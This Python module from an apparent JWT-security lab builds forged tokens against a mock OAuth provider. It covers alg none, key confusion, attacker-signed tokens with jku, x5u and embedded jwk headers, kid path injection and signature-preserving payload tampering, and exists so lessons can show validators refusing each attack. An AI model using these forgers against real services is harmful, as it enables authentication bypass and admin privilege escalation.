"""UNSAFE attack tokens for the lessons (alg none, key confusion, header tricks, tampering).

Every function here builds a token that a correct validator must refuse. Nothing in the provider's
endpoints or in the agent uses this module; it exists so lessons can show each attack being stopped.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import secrets
import warnings
from typing import Any

from joserfc import jws
from joserfc.errors import SecurityWarning
from joserfc.jwk import Key, OctKey, RSAKey

from .app import MockProvider

__all__ = [
    "unsafe_alg_none",
    "unsafe_embedded_jwk",
    "unsafe_foreign_key",
    "unsafe_hs256_with_public_key",
    "unsafe_kid",
    "unsafe_tamper_payload",
    "unsafe_url_header",
]


def _b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def _claims(provider: MockProvider, scopes: str, tenant: str | None, **extra: Any) -> dict[str, Any]:
    server = provider.server(tenant)
    now = int(provider.clock())
    return {"iss": server.issuer(), "sub": "mallory", "aud": server.default_audience, "client_id": "lab-client",
            "iat": now, "exp": now + 3600, "jti": secrets.token_hex(8), "scope": scopes, **extra}


def unsafe_alg_none(provider: MockProvider, scopes: str = "admin", tenant: str | None = None, alg: str = "none") -> str:
    """UNSAFE: an unsigned token (``alg: none`` or a case variant such as ``None``)."""
    header = {"alg": alg, "typ": "JWT"}
    body = _claims(provider, scopes, tenant)
    return f"{_b64(json.dumps(header).encode())}.{_b64(json.dumps(body).encode())}."


def unsafe_foreign_key(provider: MockProvider, scopes: str = "admin", tenant: str | None = None,
                       kid: str | None = None) -> str:
    """UNSAFE: a well-formed RS256 token signed by an attacker's key (optionally reusing a trusted kid)."""
    key = RSAKey.generate_key(2048)
    trusted = provider.server(tenant).keys.active("RS256")
    header = {"alg": "RS256", "typ": "at+jwt", "kid": kid or str(trusted.kid)}
    return jws.serialize_compact(header, json.dumps(_claims(provider, scopes, tenant)), key)


def unsafe_hs256_with_public_key(provider: MockProvider, scopes: str = "admin", tenant: str | None = None) -> str:
    """UNSAFE: the HS/RS key confusion attack: HMAC-SHA256 keyed with the provider's public RSA key (PEM)."""
    rsa = provider.server(tenant).keys.active("RS256")
    assert isinstance(rsa, RSAKey)  # noqa: S101 - the RS256 key is an RSA key
    public_pem = rsa.as_pem(private=False)
    header = {"alg": "HS256", "typ": "JWT", "kid": str(rsa.kid)}
    payload = json.dumps(_claims(provider, scopes, tenant)).encode()
    signing_input = f"{_b64(json.dumps(header).encode())}.{_b64(payload)}"
    # joserfc rightly refuses a public key as an HMAC secret, so the attacker's HMAC is done with the stdlib.
    signature = hmac.new(public_pem, signing_input.encode(), hashlib.sha256).digest()
    return f"{signing_input}.{_b64(signature)}"


def _attacker_signed(provider: MockProvider, header: dict[str, Any], scopes: str, tenant: str | None,
                     key: Key | None = None) -> str:
    signer = key or RSAKey.generate_key(2048)
    full = {"alg": "RS256", "typ": "JWT", **header}
    return jws.serialize_compact(full, json.dumps(_claims(provider, scopes, tenant)), signer)


def unsafe_url_header(provider: MockProvider, name: str = "jku", url: str = "http://127.0.0.1:9/jwks.json",
                      scopes: str = "admin", tenant: str | None = None) -> str:
    """UNSAFE: a token whose ``jku`` or ``x5u`` header points at attacker-controlled keys."""
    if name not in ("jku", "x5u"):
        raise ValueError("name must be 'jku' or 'x5u'")
    kid = str(provider.server(tenant).keys.active("RS256").kid)
    return _attacker_signed(provider, {name: url, "kid": kid}, scopes, tenant)


def unsafe_embedded_jwk(provider: MockProvider, scopes: str = "admin", tenant: str | None = None) -> str:
    """UNSAFE: a token carrying its own public key in the ``jwk`` header, signed by the matching private key."""
    key = RSAKey.generate_key(2048)
    kid = str(provider.server(tenant).keys.active("RS256").kid)
    return _attacker_signed(provider, {"jwk": key.as_dict(private=False), "kid": kid}, scopes, tenant, key)


def unsafe_kid(provider: MockProvider, kid: str = "../../dev/null", scopes: str = "admin",
               tenant: str | None = None) -> str:
    """UNSAFE: kid injection: a path, SQL or URL in ``kid``, HMAC'd with an empty-ish secret."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", SecurityWarning)
        secret = OctKey.import_key(b"\x00")
    header = {"alg": "HS256", "typ": "JWT", "kid": kid}
    return jws.serialize_compact(header, json.dumps(_claims(provider, scopes, tenant)), secret, algorithms=["HS256"])


def unsafe_tamper_payload(token: str, **changes: Any) -> str:
    """UNSAFE: change claims of a signed token and keep the old signature (e.g. ``scope="admin"``)."""
    header, payload, signature = token.split(".")
    claims = json.loads(base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4)))
    claims.update(changes)
    return f"{header}.{_b64(json.dumps(claims).encode())}.{signature}"


